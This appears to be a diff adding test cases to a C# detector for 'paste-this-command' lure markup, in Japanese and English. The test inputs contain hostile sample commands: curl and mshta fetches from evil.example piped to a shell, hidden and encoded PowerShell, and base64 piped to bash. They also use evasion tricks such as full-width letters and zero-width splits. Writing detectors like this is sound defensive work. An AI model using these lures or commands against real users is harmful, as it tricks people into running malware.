@@ -25,6 +25,10 @@ public class LureTests
     [InlineData("paste-instruction", "<p>Press <b>Win</b> + <b>R</b>, then Ctrl + V:</p><code>powershell -w hidden -c iex(irm x)</code>")]
     [InlineData("paste-instruction", "<p>「ファイル名を指定して実行」を開き、貼り付けてください</p><p>mshta https://evil.example/a</p>")]
     [InlineData("paste-instruction", "<p>ターミナルを開いて</p><p>curl https://evil.example/a | sh</p>")]
+    [InlineData("paste-instruction", "<p>WindowsキーとRを同時に押し、Ctrl＋Vで貼り付け</p><p>実行する内容：ｐｏｗｅｒｓｈｅｌｌ -w h -c x</p>")]
+    [InlineData("paste-instruction", "<p>Windows キーを押しながら R キーを押します</p><p>power\u200Bshell -enc AAAA</p>")]
+    [InlineData("paste-instruction", "<p>エクスプローラーのアドレスバーに次を貼り付けてください</p><p>cmd /c start x</p>")]
+    [InlineData("paste-instruction", "<p>Open Terminal</p><p>echo aGk= | base64 -d | bash</p>")]
     [InlineData("paste-instruction", "<script>navigator.clipboard.writeText('powershell')</script>")]
     public void Is_noted(string kind, string markup)
     {
@@ -45,6 +49,8 @@ public class LureTests
     [InlineData("<div style='display:none;max-height:0'>The preview line of this newsletter, which is long enough &zwnj;&nbsp;&zwnj;</div><p>seen</p>")]
     [InlineData("<p>seen</p><td style='font-size:0'><div style='font-size:14px'>all of this is to be seen by a reader</div></td>")]
     [InlineData("<p>seen</p><div class=mobile style='display:none'>the same for telephones, which the style sheet shows</div>")]
+    [InlineData("<p>次のパスをアドレスバーに貼り付けてください: \\\\server\\share\\資料</p>")]
+    [InlineData("<p>PowerShell の新しい版について。ショートカットは Ctrl+C です。</p>")]
     [InlineData("<p>Our new terminal supports curl and other tools. Read on.</p>")]
     [InlineData("<p>می‌خواهم می‌خواهم می‌خواهم می‌خواهم 👩‍👩‍👧</p>")]
     public void Is_not_noted(string markup)
